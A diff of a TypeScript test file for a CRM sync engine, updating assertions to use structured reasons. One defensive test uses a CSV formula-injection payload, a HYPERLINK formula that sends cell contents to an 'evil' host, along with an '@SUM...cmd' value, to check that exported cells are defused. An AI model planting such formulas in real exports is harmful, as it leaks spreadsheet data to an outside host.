@@ -3,6 +3,7 @@ import { roundHalfAwayFromZero } from '../../src/sync/plan/mapping';
 import { normalizeKey } from '../../src/sync/model';
 import type { RunEntry } from '../../src/sync/journal/records';
 import { runLogToCsv } from '../../src/sync/journal/runLog';
+import { because, renderReason } from '../../src/sync/journal/reasons';
 import { memoryHarness } from '../support/memoryHarness';
 import { DIVISION, accountId, seedAccounts } from '../support/memoryExact';
 
@@ -48,12 +49,12 @@ describe('sync engine: review findings', () => {
     const log = await h.engine.readLog(undo.id);
     const refused = log.find((e) => e.itemId === Number(id));
     expect(refused?.action).toBe('refused');
-    expect(refused?.reason).toContain('Phone is now "+31 6 12345678"');
+    expect(renderReason(refused!.reason)).toContain('Phone is now "+31 6 12345678"');
   });
 
   it('CSV cells that would run as Excel formulas are defused; negative numbers stay numbers', () => {
     const entry = {
-      exactKey: 'k', label: '=HYPERLINK("http://evil/?"&A1,"x")', action: 'update', reason: 'changed', itemId: 1, outcome: 'written',
+      exactKey: 'k', label: '=HYPERLINK("http://evil/?"&A1,"x")', action: 'update', reason: because('asWritten', 'changed'), itemId: 1, outcome: 'written',
       changes: [{ field: 'Title', before: -12.5, after: '@SUM(1+1)*cmd' }], problems: [], kept: [],
     } as unknown as RunEntry;
     const row = runLogToCsv([entry], { bom: false }).split('\r\n')[1];
@@ -77,7 +78,7 @@ describe('sync engine: review findings', () => {
     const keys = () => Object.values(h.crm.list('Companies').snapshot()).map((v) => normalizeKey(v.ExactId));
     expect(keys()).not.toContain(accountId(99));
     const log = await h.engine.readLog(run.id);
-    expect(log.find((e) => e.exactKey === accountId(99))?.reason).toMatch(/awaiting review: matches CRM item 1 on kvk/);
+    expect(renderReason(log.find((e) => e.exactKey === accountId(99))!.reason)).toMatch(/awaiting review: matches CRM item 1 on kvk/);
     // The admin says: a separate company. The next run creates it, once.
     await h.review.reject('companies', accountId(99), { user: 'admin' });
     const next = await h.engine.run('companies', { user: 'a', full: true });
